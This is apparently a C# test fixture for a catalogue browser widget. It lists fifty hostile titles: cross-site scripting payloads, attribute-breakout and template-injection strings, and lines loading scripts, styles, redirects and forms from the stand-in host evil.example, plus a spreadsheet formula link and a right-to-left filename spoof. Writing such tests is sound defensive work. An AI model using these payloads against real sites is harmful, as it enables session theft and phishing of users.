namespace RecLab.Browser.Tests.Widget;

/// <summary>Fifty titles that a catalogue should not have and some day will. Each script among them calls <c>pwned</c>.</summary>
internal static class HostileTitles
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>pwned(1)</script>", "</script><script>pwned(2)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=pwned(3)>", "<img src=x onerror=\"pwned(4)\"//",
        "<svg onload=pwned(5)>", "<svg><script>pwned(6)</script></svg>", "<svg><animate onbegin=pwned(7) attributeName=x dur=1s>", "<body onload=pwned(8)>", "<iframe src=javascript:pwned(9)>",
        "<iframe srcdoc=\"<script>parent.pwned(10)</script>\">", "<object data=javascript:pwned(11)>", "<embed src=javascript:pwned(12)>", "<a href=javascript:pwned(13)>click</a>", "javascript:pwned(14)",
        "<details open ontoggle=pwned(15)>", "<video><source onerror=pwned(16)>", "<audio src=x onerror=pwned(17)>", "<input autofocus onfocus=pwned(18)>", "<select autofocus onfocus=pwned(19)>",
        "<textarea autofocus onfocus=pwned(20)>", "<marquee onstart=pwned(21)>", "<math><mtext><script>pwned(22)</script></mtext></math>", "<style>*{display:none!important}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>Go", "<template><img src=x onerror=pwned(23)></template>", "<slot name=x onslotchange=pwned(24)>",
        "\"><script>pwned(25)</script>", "'><img src=x onerror=pwned(26)>", "\" onmouseover=\"pwned(27)", "' onfocus='pwned(28)' autofocus='", "`${pwned(29)}`",
        "{{constructor.constructor('pwned(30)')()}}", "<!--<img src=\"--><img src=x onerror=pwned(31)//\">", "&lt;script&gt;pwned(32)&lt;/script&gt;", "&#x3C;script&#x3E;pwned(33)&#x3C;/script&#x3E;", "\\u003cscript\\u003epwned(34)\\u003c/script\\u003e",
        "]]><script>pwned(35)</script>", "\u202Egnp.exe evom ot thgir\u202C", "\u2066\u2067\u2068isolates left open", "Emoji 👩‍👩‍👧‍👦🏳️‍🌈🤷🏽‍♀️", "Z̷̢̛a̶͔l̵̰g̷͎o̸̝ t̶̮e̷̡x̶̹t̸̰",
        "\u200B\u200D\uFEFF\u00AD", "\t tab, line\nand carriage\rreturn", "=HYPERLINK(\"http://evil.example\",\"Click\")", new string('W', 300), string.Concat(Enumerable.Repeat("long words and ", 20)) + "<script>pwned(36)</script>",
    ];
}
